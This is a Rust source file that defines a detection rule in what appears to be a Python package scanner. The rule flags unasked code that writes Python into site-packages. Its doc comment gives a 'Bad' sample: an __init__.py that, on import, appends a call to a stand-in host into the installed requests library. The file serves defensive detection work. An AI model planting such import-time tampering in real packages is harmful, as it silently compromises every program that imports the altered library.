//! ## What it detects
//!
//! Code that nobody called, which writes Python into the folder where other packages are installed.
//!
//! ## Why it is bad
//!
//! The library that is changed so runs the attacker's code for every program that imports it, and goes on when the package has been taken away.
//!
//! ## Innocent lookalikes
//!
//! Installers write there when they are told to; patches that are documented are called by their users.
//!
//! ## Bad
//!
//! ```python x/__init__.py
//! import os, site
//! path = os.path.join(site.getsitepackages()[0], 'requests', 'api.py')
//! with open(path, 'a') as f:
//!     f.write('import urllib.request\\nurllib.request.urlopen("http://x.example.invalid")')
//! ```
//!
//! ## Good
//!
//! ```python x/__init__.py
//! import os, site
//! path = os.path.join(site.getsitepackages()[0], 'x', 'cache.json')
//! with open(path, 'a') as f:
//!     f.write('[]')
//! ```

use fondaco_python::{Api, Call, Unit};
use fondaco_verdict::{Behaviour, Confidence, RuleId, Severity, Trigger};

use crate::{Hits, Package, Rule};

pub(crate) const RULE: Rule = Rule {
    id: RuleId::new("library-tampering"),
    title: "changes another package",
    severity: Severity::Critical,
    confidence: Confidence::Medium,
    behaviour: Some(Behaviour::Persistence),
    weight: 1.4,
    check,
};

fn check(package: &Package<'_>, hits: &mut Hits) {
    for unit in package.units().filter(|unit| knows_libraries(unit)) {
        for call in unit.calls.iter().filter(|call| writes_code(call)) {
            hits.call(unit, call, "writes Python into where packages are installed");
        }
    }
}

/// Whether a module asks where packages are installed.
fn knows_libraries(unit: &Unit) -> bool {
    const PLACES: [&str; 5] =
        ["getsitepackages", "getusersitepackages", "get_python_lib", "\"purelib\"", "'purelib'"];
    PLACES.iter().any(|place| unit.text.contains(place))
}

/// During an installation files are put there by right.
fn writes_code(call: &Call) -> bool {
    let unasked = matches!(call.trigger, Some(Trigger::Import | Trigger::Startup));
    let [data, path, ..] = call.args.as_slice() else { return false };
    let is_python = path.texts().iter().any(|text| text.ends_with(".py"));
    let is_code = data.texts().is_empty() || data.texts().iter().any(|text| text.contains("import") || text.contains("exec"));
    call.api == Some(Api::FileWrite) && unasked && is_python && is_code
}
